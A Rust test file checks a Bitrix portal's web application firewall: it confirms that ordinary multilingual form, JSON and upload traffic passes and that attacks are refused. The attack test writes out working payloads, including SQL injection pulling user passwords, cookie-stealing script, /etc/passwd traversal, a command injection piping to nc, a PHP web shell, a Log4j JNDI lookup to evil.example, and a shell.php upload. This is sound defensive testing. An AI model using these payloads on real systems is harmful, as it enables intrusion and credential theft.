//! What people and programs send to a portal all day, in Russian, German and English: none of it may be refused, and what is
//! attacked through the same forms must be. Runs with the Core Rule Set: `make test-waf`.

use std::path::PathBuf;
use std::sync::Arc;

use bitrix_node::config;
use bitrix_node::proxy::firewall;
use bitrix_node::proxy::waf::{Engine, Plan, Report, Request, Transaction};
use bytes::Bytes;

use super::waf_corpus::named;

pub const BUDGET: u64 = 64 << 20;
const AJAX: &str = "/bitrix/services/main/ajax.php";
const FORM: &str = "application/x-www-form-urlencoded; charset=UTF-8";
const JSON: &str = "application/json";
const COOKIES: &str = "PHPSESSID=ab12cd34ef56ab12cd34ef56ab12cd34; BITRIX_SM_LOGIN=ivanov%40example.com; BITRIX_SM_SALE_UID=5; \
    BITRIX_CONVERSION_CONTEXT_s1=%7B%22ID%22%3A1%2C%22EXPIRE%22%3A1753390740%2C%22UNIQUE%22%3A%5B%22conversion_visit_day%22%5D%7D; \
    BITRIX_SM_TZ=Europe/Moscow; qmb=.";

/// A visitor's request: what it is, method, target, content type, body. Fields of forms are written plainly and encoded here.
pub struct Visit {
    what: &'static str,
    pub method: &'static str,
    target: String,
    kind: &'static str,
    body: Vec<u8>,
}

fn get(what: &'static str, path: &str, query: &[(&str, &str)]) -> Visit {
    let query = encoded(query);
    let target = if query.is_empty() {
        path.to_string()
    } else {
        format!("{path}?{query}")
    };
    Visit {
        what,
        method: "GET",
        target,
        kind: "",
        body: Vec::new(),
    }
}

fn post(what: &'static str, target: &str, fields: &[(&str, &str)]) -> Visit {
    let mut all = vec![("sessid", "0123456789abcdef0123456789abcdef"), ("SITE_ID", "s1")];
    all.extend(fields);
    Visit {
        what,
        method: "POST",
        target: target.to_string(),
        kind: FORM,
        body: encoded(&all).into_bytes(),
    }
}

fn json(what: &'static str, target: &str, body: &str) -> Visit {
    Visit {
        what,
        method: "POST",
        target: target.to_string(),
        kind: JSON,
        body: body.as_bytes().to_vec(),
    }
}

pub fn raw(what: &'static str, method: &'static str, target: &str, kind: &'static str, body: &[u8]) -> Visit {
    Visit {
        what,
        method,
        target: target.to_string(),
        kind,
        body: body.to_vec(),
    }
}

fn encoded(fields: &[(&str, &str)]) -> String {
    let mut text = form_urlencoded::Serializer::new(String::new());
    text.extend_pairs(fields);
    text.finish()
}

fn upload(name: &str) -> Vec<u8> {
    let mut body = Vec::new();
    for (field, value) in [
        ("sessid", "0123456789abcdef0123456789abcdef"),
        ("description", "Скан договора №12"),
    ] {
        body.extend_from_slice(
            format!(
                "------WebKitFormBoundary7MA4\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n"
            )
            .as_bytes(),
        );
    }
    body.extend_from_slice(format!("------WebKitFormBoundary7MA4\r\nContent-Disposition: form-data; name=\"files[]\"; filename=\"{name}\"\r\nContent-Type: application/pdf\r\n\r\n").as_bytes());
    body.extend((0..4000u32).map(|byte| (byte.wrapping_mul(2_654_435_761) >> 13) as u8));
    body.extend_from_slice(b"\r\n------WebKitFormBoundary7MA4--\r\n");
    [b"------WebKitFormBoundary7MA4".as_slice(), &body["--".len() + 26..]].concat()
}

const MULTIPART: &str = "multipart/form-data; boundary=----WebKitFormBoundary7MA4";

fn visits() -> Vec<Visit> {
    let mail = "<div style=\"font-family: Arial, sans-serif; font-size: 14px\"><p>Добрый день, коллеги!</p><p>Высылаю <b>договор</b> и \
        <a href=\"https://example.com/docs?id=5&amp;v=2\" target=\"_blank\">приложение</a>. <img src=\"cid:image001\" alt=\"логотип\" width=\"120\"></p>\
        <table border=\"1\"><tr><td>Сумма</td><td>120&nbsp;000 ₽</td></tr></table><blockquote>&gt; ok</blockquote></div>";
    let mut all = vec![
        get("a page", "/company/personal/user/1/tasks/", &[("F_STATE", "sV80"), ("apply_filter", "Y")]),
        get("search in Russian", "/search/", &[("q", "договор"), ("how", "r")]),
        get("search of a phrase", "/search/", &[("q", "счёт-фактура №12 от 01.03.2026 (копия)")]),
        get("search in German", "/search/", &[("q", "Größe & Übergabe: Straße 5, Müller's Büro")]),
        get("search in English", "/search/", &[("q", "O'Reilly & sons - select the best option from list")]),
        get("a way back", "/auth/", &[("backurl", "/company/personal/user/1/?a=b&c=d"), ("login", "yes")]),
        get("a grid", "/crm/deal/list/", &[("grid_id", "CRM_DEAL_LIST_V12"), ("by", "ID"), ("order", "desc"), ("page", "page-2"), ("bxajaxid", "0f7a")]),
        get("a picture", "/upload/resize_cache/iblock/a1b/100_100_1/foto%20%D0%BE%D1%82%D1%87%D1%91%D1%82.jpg", &[]),
        get("scripts", "/bitrix/cache/js/s1/bitrix24/kernel_main/kernel_main_v1.js", &[("17532810011", "")]),
        get("a calendar's range", "/bitrix/tools/calendar.php", &[("from", "2026-01-01 00:00"), ("to", "2026-02-01"), ("lang", "ru")]),
        get("REST by webhook", "/rest/1/a1b2c3d4e5f6g7h8/crm.deal.list.json", &[("filter[>=DATE_CREATE]", "2026-01-01T00:00:00+03:00"), ("filter[!STAGE_ID]", "LOSE"), ("select[]", "*"), ("order[ID]", "DESC"), ("start", "50")]),
        post("logging in", "/auth/?login=yes", &[("AUTH_FORM", "Y"), ("TYPE", "AUTH"), ("USER_LOGIN", "ivanov@example.com"), ("USER_PASSWORD", "Пароль!23$%&<>'\"--;"), ("USER_REMEMBER", "Y")]),
        post("a task with BBCode", &format!("{AJAX}?action=tasks.task.add"), &[("fields[TITLE]", "Подготовить отчёт за 1-й квартал; согласовать с ООО \"Ромашка\""), ("fields[DESCRIPTION]", "[B]Нужно:[/B]\n1) выгрузить данные; 2) проверить (см. файл)\n[URL=https://example.com/a?b=1&c=2]ссылка[/URL]\n[USER=5]Иван Петров[/USER], жду до 15:00!"), ("fields[DEADLINE]", "2026-03-15T15:00:00+03:00"), ("fields[RESPONSIBLE_ID]", "5")]),
        post("a task in German", &format!("{AJAX}?action=tasks.task.add"), &[("fields[TITLE]", "Überprüfung der Verträge (Müller & Söhne GmbH)"), ("fields[DESCRIPTION]", "Bitte bis Freitag prüfen: §5 Abs. 2; Änderungen -> rot markieren.\n- Größe\n- Straße\n\"Anhang A\" oder 'B'?")]),
        post("a message in the feed", "/bitrix/components/bitrix/socialnetwork.log.ex/ajax.php", &[("POST_MESSAGE", "Коллеги, поздравляем отдел продаж! 🎉 План выполнен на 105%.\n[QUOTE]Спасибо всем; так держать![/QUOTE]"), ("DEST_CODES[]", "UA"), ("SPERM[U][]", "U1"), ("changePostFormTab", "message")]),
        post("a letter in HTML", &format!("{AJAX}?c=bitrix:main.mail.form&action=send&mode=ajax"), &[("data[from]", "\"Иван Петров\" <ivanov@example.com>"), ("data[to][]", "{\"email\":\"info@example.org\",\"name\":\"ООО Ромашка\"}"), ("data[subject]", "Re: Договор поставки №12/26"), ("data[message]", mail)]),
        post("an article of the knowledge base", "/bitrix/tools/landing/ajax.php?action=Landing::updateNode", &[("data[0][action]", "Block::updateNodes"), ("data[0][data][content]", mail), ("site_id", "3")]),
        post("a chat message with code", "/bitrix/components/bitrix/im.messenger/im.ajax.php", &[("IM_SEND_MESSAGE", "Y"), ("MESSAGE", "смотри: SELECT ID, NAME FROM b_user WHERE ACTIVE='Y' ORDER BY ID DESC; потом ls -la /var/log && cat error.log"), ("RECIPIENT_ID", "chat12")]),
        post("a chat message with a trace", "/bitrix/components/bitrix/im.messenger/im.ajax.php", &[("IM_SEND_MESSAGE", "Y"), ("MESSAGE", "Fatal error: Uncaught Error: Call to undefined function foo() in /home/bitrix/www/local/php_interface/init.php:12\n#0 {main}\n<?php echo $_SERVER['HTTP_HOST']; ?>"), ("RECIPIENT_ID", "chat12")]),
        post("a comment", &format!("{AJAX}?action=crm.timeline.comment.add"), &[("fields[COMMENT]", "Клиент сказал: \"перезвоните завтра\"; сумма ~ 50 000 р. (без НДС) <- уточнить!"), ("fields[ENTITY_ID]", "12"), ("fields[ENTITY_TYPE]", "deal")]),
        post("a deal", "/bitrix/components/bitrix/crm.deal.details/ajax.php", &[("ACTION", "SAVE"), ("TITLE", "Поставка; ООО «Рога & Копыта»"), ("OPPORTUNITY", "150000.50"), ("CURRENCY_ID", "RUB"), ("COMMENTS", "<p>Срочно!</p><ul><li>раз</li><li>два</li></ul>"), ("PARAMS[signed]", "YTo0OntzOjEyOiJlbnRpdHlUeXBlSWQiO2k6Mjt9.0f3c2b1a9d8e7f60")]),
        post("a component's parameters", &format!("{AJAX}?mode=class&c=bitrix%3Atasks.task.list&action=getList"), &[("signedParameters", "YTo1OntzOjc6IlVTRVJfSUQiO2k6MTtzOjg6IkdST1VQX0lEIjtpOjA7fQ==.8c6976e5b5410415bde908bd4dee15dfb167a9c873fc4bb8a81f6f2ab448a918"), ("params", "{\"filter\":{\"::LOGIC\":\"AND\",\">=DEADLINE\":\"01.03.2026\",\"!STATUS\":[4,5]},\"select\":[\"ID\",\"TITLE\"]}")]),
        post("a filter's settings", &format!("{AJAX}?action=main.ui.filter.setFilter"), &[("params[FILTER_ID]", "CRM_DEAL_LIST_V12"), ("data[fields][FIND]", "Иванов"), ("data[fields][DATE_CREATE_datesel]", "LAST_30_DAYS"), ("data[rows]", "TITLE,STAGE_ID,OPPORTUNITY")]),
        post("a workflow's template", "/bitrix/admin/bizproc_activity_settings.php", &[("expression", "=if({=Document:OPPORTUNITY}>100000;\"да\";\"нет\")"), ("title", "Условие: сумма > 100 000")]),
        post("a batch of REST", "/rest/batch.json", &[("auth", "0f7a"), ("halt", "0"), ("cmd[deals]", "crm.deal.list?filter[STAGE_ID]=NEW&select[]=ID&select[]=TITLE"), ("cmd[user]", "user.current?x=1"), ("cmd[tasks]", "tasks.task.list?filter[>=DEADLINE]=2026-01-01&order[ID]=desc")]),
        json("a deal by REST", "/rest/1/a1b2c3d4e5f6g7h8/crm.deal.add.json", r#"{"fields":{"TITLE":"Договор №5 (доп. соглашение)","COMMENTS":"Позвонить клиенту; уточнить сумму — 5'000 & НДС","OPPORTUNITY":1500.5,"UF_CRM_1":["a","б"],"CONTACT_IDS":[1,2]},"params":{"REGISTER_SONET_EVENT":"Y"}}"#),
        json("an activity in German", "/rest/crm.activity.add", r#"{"fields":{"SUBJECT":"Rückruf: Herr Jäger (Köln)","DESCRIPTION":"Angebot über 3.500 € – \"Größe M\"; Lieferung nach Straße 7 / Tür B.\nMit freundlichen Grüßen","COMMUNICATIONS":[{"VALUE":"+49 221 1234567","TYPE":"PHONE"}],"COMPLETED":"N"}}"#),
        json("a chat by REST", &format!("{AJAX}?action=im.v2.Chat.Message.send"), r#"{"chatId":12,"fields":{"message":"Привет! Можно ли удалить (drop) таблицу из отчёта? И где лежит файл config.php?","templateId":"0f7a-1b2c"}}"#),
        json("a document", &format!("{AJAX}?action=disk.api.documentservice.save"), r#"{"name":"Отчёт (финал) v2.docx","text":"1. Цель\n2. Задачи: увеличить продажи на 10%; снизить издержки & брак.\n3. Итоги — см. приложение «А»."}"#),
        raw("an upload", "POST", "/bitrix/tools/disk/uf.php?action=uploadFile", MULTIPART, &upload("Договор поставки (скан) №12.pdf")),
        raw("an upload in German", "POST", "/bitrix/tools/disk/uf.php?action=uploadFile", MULTIPART, &upload("Übersicht Größen & Maße – Müller.pdf")),
        raw("a part of an upload", "POST", &format!("{AJAX}?action=disk.api.content.upload&filename=%D0%BE%D1%82%D1%87%D1%91%D1%82.zip&token="), "application/octet-stream", &[80, 75, 3, 4, 20, 0, 8, 8, 0, 255, 254, 7]),
        raw("an upload of a .NET program", "POST", "/rest/1/a1b2c3d4e5f6g7h8/disk.folder.uploadfile", "multipart/form-data; boundary=\"0f7a-1b2c\"",
            "\r\n--0f7a-1b2c\r\nContent-Type: application/pdf\r\nContent-Disposition: form-data; name=file; filename=scan.pdf; filename*=utf-8''scan.pdf\r\n\r\n%PDF\r\n--0f7a-1b2c--\r\n".as_bytes()),
        raw("a part of a file of JSON", "POST", &format!("{AJAX}?action=ui.fileuploader.upload&SITE_ID=s1"), JSON, "{\"name\": \"Отчёт\", \"rows\": [1, 2".as_bytes()),
        raw("a file of JSON with remarks", "PUT", "/docs/shared/notes.json", JSON, b"{\n  // remark\n  \"strict\": true,\n}"),
        raw("an empty list", "POST", "/rest/1/a1b2c3d4e5f6g7h8/user.current.json", JSON, b"[]"),
        raw("a calendar's client", "PROPFIND", "/bitrix/groupdav.php/1/calendar/", "text/xml; charset=utf-8", b"<?xml version=\"1.0\" encoding=\"utf-8\"?><D:propfind xmlns:D=\"DAV:\"><D:prop><D:displayname/><D:getetag/></D:prop></D:propfind>"),
        raw("an event of a calendar", "PUT", "/bitrix/groupdav.php/1/calendar/5.ics", "text/calendar; charset=utf-8", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Совещание; отдел продаж\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".as_bytes()),
        raw("deleting a file", "DELETE", "/docs/shared/old%20report.docx", "", b""),
    ];
    for text in [
        "Прошу согласовать оплату по счёту № 45 от 12.02.2026; сумма: 15 300,00 руб. (в т.ч. НДС 20%).",
        "или 1=1 или нет? Вопрос: а/б тест -- готов? Да & нет; 50/50 'ок'",
        "Sehr geehrte Damen und Herren, können Sie bitte die Rechnung (Nr. 4711/26) prüfen? Oder 2 = 3?",
        "Let's select a date from the list and update the table: drop me a line if it's ok; thanks!",
        "Цена > 100 & < 500; скидка = 10%; формула: a = b + c * (d - e)",
        "echo тест | grep ошибка; см. \\\\server\\share\\Папка и C:\\Program Files\\1C\\",
        "https://example.com/?utm_source=mail&utm_medium=email#top и http://10.0.0.5:8080/status",
        "<b>Жирный</b> и <i>курсив</i>, смайл :) ;-) <3 =)",
    ] {
        all.push(post(
            "a text",
            &format!("{AJAX}?action=socialnetwork.api.livefeed.blogpost.add"),
            &[("params[POST_MESSAGE]", text), ("params[POST_TITLE]", "")],
        ));
        all.push(json(
            "a text in JSON",
            "/rest/log.blogpost.add",
            &serde_json::json!({ "POST_MESSAGE": text }).to_string(),
        ));
    }
    all
}

pub fn request(visit: &Visit) -> Request {
    let bytes = |text: &str| Bytes::copy_from_slice(text.as_bytes());
    let length = visit.body.len().to_string();
    let mut headers = vec![
        ("Host", "portal.example.com"),
        (
            "User-Agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        ),
        ("Accept", "*/*"),
        ("Accept-Language", "ru-RU,ru;q=0.9,de;q=0.8,en;q=0.7"),
        ("Accept-Encoding", "gzip, deflate, br, zstd"),
        ("Origin", "https://portal.example.com"),
        (
            "Referer",
            "https://portal.example.com/company/personal/user/1/tasks/?F_STATE=sV80",
        ),
        ("X-Requested-With", "XMLHttpRequest"),
        ("BX-Ajax", "true"),
        ("Cookie", COOKIES),
    ];
    if visit.method != "GET" {
        headers.push(("Content-Length", &length));
    }
    if !visit.kind.is_empty() {
        headers.push(("Content-Type", visit.kind));
    }
    if visit.kind == "application/octet-stream" {
        headers.push(("Content-Range", "bytes 0-11/12"));
    }
    Request {
        method: bytes(visit.method),
        target: bytes(&visit.target),
        protocol: "HTTP/1.1",
        headers: headers
            .iter()
            .map(|(name, value)| (bytes(name), bytes(value)))
            .collect(),
        client: "192.0.2.7:1234".parse().unwrap(),
        server: "192.0.2.1:443".parse().unwrap(),
        host: "portal.example.com".to_string(),
        id: "0123456789abcdef".to_string(),
    }
}

fn judge(plan: &Arc<Plan>, visit: &Visit) -> Report {
    let mut transaction = Transaction::new(plan.clone(), &request(visit), Engine::Detect, BUDGET);
    transaction.headers();
    transaction.body(&Bytes::copy_from_slice(&visit.body), false);
    transaction.finish()
}

/// The rule sets that are there, by name.
pub fn plans() -> Vec<(&'static str, Arc<Plan>)> {
    plans_where(true)
}

/// `knows_portal`: with what this program tells them of the portal.
pub fn plans_where(knows_portal: bool) -> Vec<(&'static str, Arc<Plan>)> {
    let mut waf = config::read(config::DEFAULTS).unwrap().config.waf;
    waf.portal = knows_portal;
    let mut plans = Vec::new();
    waf.rules = vec![named("WAF_CORPUS")];
    plans.push((
        "CRS 4",
        Arc::new(firewall::load(&waf).unwrap_or_else(|error| panic!("{error}"))),
    ));
    let debian: Vec<PathBuf> = named("WAF_DEBIAN")
        .to_string_lossy()
        .split(':')
        .map(PathBuf::from)
        .collect();
    waf.rules = debian;
    plans.push((
        "CRS 3.3",
        Arc::new(firewall::load(&waf).unwrap_or_else(|error| panic!("{error}"))),
    ));
    plans
}

#[test]
#[ignore = "needs the rule set: make test-waf"]
fn what_a_portal_is_sent_all_day_is_not_refused() {
    let mut refused = Vec::new();
    for (name, plan) in plans() {
        for visit in visits() {
            let report = judge(&plan, &visit);
            if report.refused.is_some() || report.score >= 5 {
                let hits = report
                    .hits
                    .iter()
                    .map(|hit| format!("{} {} {}", hit.id, hit.target, hit.data));
                let body = String::from_utf8_lossy(&visit.body)
                    .chars()
                    .take(200)
                    .collect::<String>();
                refused.push(format!(
                    "{name}: {} {}\n  {body}\n  {}",
                    visit.what,
                    visit.target,
                    hits.collect::<Vec<_>>().join("\n  ")
                ));
            }
        }
    }
    assert!(refused.is_empty(), "{} refused:\n{}", refused.len(), refused.join("\n"));
}

#[test]
#[ignore = "needs the rule set: make test-waf"]
fn attacks_on_the_same_portal_are_refused() {
    let attacks = [
        get(
            "SQL",
            "/crm/deal/list/",
            &[("by", "ID' UNION SELECT LOGIN,PASSWORD FROM b_user-- ")],
        ),
        get(
            "script",
            "/search/",
            &[("tags", "<script>alert(document.cookie)</script>")],
        ),
        get(
            "a file",
            "/bitrix/tools/show.php",
            &[("file", "../../../../etc/passwd")],
        ),
        get(
            "a shell",
            "/bitrix/tools/ping.php",
            &[("host", "127.0.0.1; cat /etc/passwd | nc 10.0.0.1 4444")],
        ),
        post(
            "SQL in a form",
            AJAX,
            &[("fields[RESPONSIBLE_ID]", "1 OR 1=1 UNION SELECT user(),version()")],
        ),
        post("PHP in a form", AJAX, &[("template", "<?php system($_GET['c']); ?>")]),
        post(
            "an object of PHP",
            AJAX,
            &[("state", "O:8:\"stdClass\":1:{s:1:\"a\";O:4:\"Evil\":0:{}}")],
        ),
        json(
            "SQL in JSON",
            "/rest/crm.deal.list",
            r#"{"order":{"ID":"desc' AND SLEEP(5)-- "}}"#,
        ),
        get("SQL by another name", "/crm/deal/list/", &[("filter[NAME]text", "ID' UNION SELECT LOGIN,PASSWORD FROM b_user-- ")]),
        json(
            "SQL behind a large number",
            "/rest/crm.deal.list",
            r#"{"a":1e999,"order":{"ID":"desc' AND SLEEP(5)-- "}}"#,
        ),
        raw("a field like a file", "POST", AJAX, "multipart/form-data; boundary=a",
            b"--a\r\nContent-Disposition: form-data; name=\"q\"; filename =\"x\"\r\n\r\nID' UNION SELECT 1\r\n--a--\r\n"),
        json("Log4j", "/rest/x", r#"{"ua":"${jndi:ldap://evil.example/a}"}"#),
        raw(
            "a shell as a file",
            "POST",
            "/bitrix/tools/disk/uf.php",
            MULTIPART,
            &upload("shell.php"),
        ),
    ];
    let mut missed = Vec::new();
    for (name, plan) in plans() {
        for attack in &attacks {
            if judge(&plan, attack).refused.is_none() {
                missed.push(format!("{name}: {}", attack.what));
            }
        }
    }
    assert!(missed.is_empty(), "let through: {missed:?}");
}
